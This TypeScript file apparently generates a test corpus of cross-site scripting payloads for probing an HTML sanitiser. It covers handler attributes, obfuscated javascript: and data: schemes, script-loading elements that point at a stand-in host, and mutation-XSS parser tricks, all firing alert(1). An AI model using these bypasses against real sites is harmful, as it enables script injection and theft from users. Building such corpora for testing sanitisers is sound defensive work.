/** Attempts to get code past a sanitiser, in families: each element with each way to write what it carries. */

const CODE = "alert(1)";

const ELEMENTS = ["p", "img", "a", "b", "td", "svg", "math", "video", "details", "input", "x-y", "body"];

const HANDLERS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart"];

/** Ways to write an attribute that is a handler. */
const WRITTEN: ReadonlyArray<(element: string, handler: string) => string> = [
  (element, handler) => `<${element} src=x ${handler}=${CODE}>x`,
  (element, handler) => `<${element.toUpperCase()}/${handler.toUpperCase()}="${CODE}">x</${element}>`,
];

const handlers = ELEMENTS.flatMap((element) =>
  HANDLERS.flatMap((handler) => WRITTEN.map((write) => write(element, handler))),
);

/** Ways to write the scheme of an address. */
const SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  " javascript:",
  "\u0001javascript:",
  "java\tscript:",
  "java\nscript:",
  "java\rscript:",
  "java&#9;script:",
  "java&NewLine;script:",
  "javascript&colon;",
  "javascript&#58;",
  "javascript&#x3a;",
  "&#106;avascript:",
  "&#0000106avascript:",
  "&#x6A;avascript:",
  "\u0000javascript:",
  "java\u0000script:",
  "jav\u{ff41}script:",
  "vbscript:",
  "livescript:",
  "data:text/html,<script>alert(1)</script>//",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==//",
  "data:image/svg+xml,<svg onload=alert(1)>//",
  "blob:https://a.example/",
  "file:///etc/passwd//",
  "view-source:javascript:",
  "feed:javascript:",
  "filesystem:https://a.example/",
];

const CARRIERS: ReadonlyArray<(address: string) => string> = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<img src='${address}' alt=x>`,
  (address) => `<blockquote cite="${address}">x</blockquote>`,
  (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
  (address) => `<form action="${address}"><button formaction="${address}">x</button></form>`,
];

const schemes = SCHEMES.flatMap((scheme) => CARRIERS.map((carry) => carry(`${scheme}${CODE}`)));

/** Elements that run code, load something or change the page by being there. */
const elements = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//a.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\u0000>alert(1)</script>",
  "<script/x>alert(1)</script>",
  "<script>alert(1)",
  "<<script>alert(1)//<</script>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<applet code=x></applet>",
  "<base href=javascript:alert(1)//>",
  "<link rel=stylesheet href=javascript:alert(1)>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<style>@import'javascript:alert(1)'</style>",
  "<p style='background:url(javascript:alert(1))'>x",
  "<div style='width:expression(alert(1))'>x</div>",
  "<table background=javascript:alert(1)><td background=javascript:alert(1)>x",
  "<isindex type=image src=1 onerror=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)><option>x</select>",
  "<textarea autofocus onfocus=alert(1)>x</textarea>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<audio src onerror=alert(1)></audio>",
  "<video><source onerror=alert(1)></video>",
  "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
  "<portal src=javascript:alert(1)></portal>",
  "<dialog open onclose=alert(1)>x</dialog>",
  "<a name=getElementById><a id=cookie>x</a></a>",
  "<img name=body><form name=attributes id=x><input name=y></form>",
  "<img srcset='javascript:alert(1) 2x' src=/x>",
  "<a href=/x target=_blank ping=javascript:alert(1) rel=opener>x</a>",
  "<?xml-stylesheet href='javascript:alert(1)'?>",
  "<!DOCTYPE x [<!ENTITY y 'z'>]><p>&y;",
];

/** Markup that a parser understands otherwise the second time, or in another place. */
const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style><p title="</style><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
  "<plaintext><img src=x onerror=alert(1)>",
  "<template><img src=x onerror=alert(1)></template>",
  "<template><template><script>alert(1)</script></template></template>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'>",
  "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
  "<svg><desc><script>alert(1)</script></desc></svg>",
  "<svg><title><img src=x onerror=alert(1)></title></svg>",
  "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x></a></svg>",
  "<svg><set attributeName=onmouseover to=alert(1)>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
  "<svg><script href=//a.example/x.js /></svg>",
  "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
  "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
  "<math><mi><malignmark><style><img src=x onerror=alert(1)></style></mi></math>",
  "<math href=javascript:alert(1)>x</math>",
  "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!--\u003e<script>alert(1)</script>",
  "<!--!><img src=x onerror=alert(1)>",
  "<!-- --!><img src=x onerror=alert(1)>",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<![><img src=x onerror=alert(1)>",
  "</ <img src=x onerror=alert(1)>>",
  "<//><img src=x onerror=alert(1)>",
  '<img alt="`><script>alert(1)</script>" src=/x>',
  "<img alt='\"><script>alert(1)</script>' src=/x>",
  "<img src=/x alt=`onerror=alert(1)`>",
  "<a href='/x' title='\"onmouseover=alert(1) x=\"'>x</a>",
  "<a href='/x\" onmouseover=\"alert(1)'>x</a>",
  "<a href='mailto:\"><script>alert(1)</script>'>x</a>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
  "<p title='&lt;img src=x onerror=alert(1)&gt;'>x",
  "<abbr title=']]><script>alert(1)</script>'>x</abbr>",
  "]]><script>alert(1)</script>",
  "]]&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
  "<table><script>alert(1)</script><tr><td><img src=x onerror=alert(1)>",
  "<table><a href=javascript:alert(1)>x<td>y",
  "<select><style><img src=x onerror=alert(1)></select>",
  "<option><img src=x onerror=alert(1)></option>",
  "<b><p></b><script>alert(1)</script></p>",
  "<ruby><rt><img src=x onerror=alert(1)></rt></ruby>",
  "<button><p><img src=x onerror=alert(1)></button>",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "\ufeff<script>alert(1)</script>",
  "<ｓcript>alert(1)</ｓcript>",
  "\u2028<img\u2028src=x\u2028onerror=alert(1)>",
  "<img\u000csrc=x\u000conerror=alert(1)>",
  "<img\u000bsrc=x onerror\u000b=alert(1)>",
  "<a href=//a.example\\@javascript:alert(1)>x</a>",
];

export const PAYLOADS: readonly string[] = [...handlers, ...schemes, ...elements, ...mutations];
